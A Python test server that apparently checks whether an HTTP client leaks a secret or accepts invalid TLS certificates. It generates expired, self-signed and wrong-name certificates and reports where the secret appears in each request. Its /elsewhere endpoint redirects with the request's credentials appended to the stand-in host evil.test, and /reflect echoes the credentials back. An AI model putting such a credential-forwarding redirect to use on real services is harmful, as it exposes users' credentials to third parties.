"""A server of HTTP and HTTPS at every address, for names below allowed.test and glob.test.

    python3 web.py DIRECTORY

writes `ca.pem` there, the authority of its certificates, and `up` on standard output; ends
when standard input does. Of each request it tells, in JSON, whom it was for and in which
places the value of a secret was, which is in the variable VALUE. `/reflect` is answered with
the credentials, in gzip if that may be, and `/elsewhere` with them in a Location.
"""

import base64
import gzip
import http.server
import json
import os
import socket
import ssl
import subprocess
import sys
import threading
import urllib.parse

VALUE = os.environ["VALUE"]

def run(*words):
    subprocess.run(words, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def request(name, names):
    run("openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
        "-keyout", name + ".key", "-out", name + ".csr", "-subj", "/CN=" + name)
    with open(name + ".ext", "w") as file:
        file.write("subjectAltName=" + ",".join("DNS:" + one for one in names))


def certificate(name, names, *signed):
    request(name, names)
    signed = signed or ("-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial")
    run("openssl", "x509", "-req", "-in", name + ".csr", "-days", "20",
        "-extfile", name + ".ext", "-out", name + ".pem", *signed)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(name + ".pem", name + ".key")
    return context


def expired(name):
    """`openssl x509` takes no dates here: `openssl ca` does."""
    request(name, [name])
    with open("ca.cnf", "w") as file:
        file.write("[ca]\ndefault_ca=own\n[own]\nnew_certs_dir=.\ndatabase=index\nserial=serial\n"
                   "default_md=sha256\npolicy=any\n[any]\ncommonName=supplied\n")
    open("index", "w").close()
    run("openssl", "ca", "-batch", "-config", "ca.cnf", "-cert", "ca.pem", "-keyfile", "ca.key",
        "-in", name + ".csr", "-out", name + ".pem", "-startdate", "20200101000000Z",
        "-enddate", "20200201000000Z", "-extfile", name + ".ext", "-rand_serial")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(name + ".pem", name + ".key")
    return context


def contexts():
    run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
        "-keyout", "ca.key", "-out", "ca.pem", "-days", "30", "-subj", "/CN=authority of the web")
    good = certificate("good", ["*.allowed.test", "*.glob.test"])
    by_itself = ("-signkey", "self.allowed.test.key")
    bad = {
        "expired.allowed.test": expired("expired.allowed.test"),
        "self.allowed.test": certificate("self.allowed.test", ["self.allowed.test"], *by_itself),
        "wrong.allowed.test": certificate("wrong.allowed.test", ["evil.test"]),
    }

    def choose(connection, name, _):
        connection.context = bad.get(name, good)

    good.sni_callback = choose
    return good


def has(text):
    """Whether the value is in a text, as it is or as credentials."""
    kind, _, rest = text.partition(" ")
    if kind == "Basic":
        text = base64.b64decode(rest, validate=True).decode()
    return VALUE in text or urllib.parse.quote(VALUE, safe="") in text


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def do(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        found = [name.lower() for name, value in self.headers.items() if has(value)]
        found += ["target"] * has(self.path) + ["body"] * has(body.decode("latin-1"))
        credentials = self.headers.get("Authorization", "")
        headers, status = [], 200
        answer = json.dumps({"host": self.headers["Host"], "found": found}).encode()
        if self.path == "/reflect":
            answer = credentials.encode()
            if "gzip" in self.headers.get("Accept-Encoding", ""):
                answer, headers = gzip.compress(answer), [("Content-Encoding", "gzip")]
        elif self.path == "/elsewhere":
            status, headers = 302, [("Location", "https://evil.test/?" + credentials)]
        self.send_response(status)
        for name, value in headers + [("Content-Length", str(len(answer)))]:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(answer)

    do_GET = do_POST = do_PUT = do


class Server(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6
    tls = None

    def server_bind(self):
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.socket.bind(self.server_address)
        self.server_name, self.server_port = "web", self.server_address[1]

    def finish_request(self, request, client):
        if self.tls:
            request = self.tls.wrap_socket(request, server_side=True)
        super().finish_request(request, client)

    def handle_error(self, request, client):
        # Whoever does not trust it goes away.
        if not isinstance(sys.exc_info()[1], OSError):
            super().handle_error(request, client)


def main():
    os.chdir(sys.argv[1])
    plain, encrypted = Server(("::", 80), Handler), Server(("::", 443), Handler)
    encrypted.tls = contexts()
    for server in plain, encrypted:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
    print("up", flush=True)
    sys.stdin.read()


main()
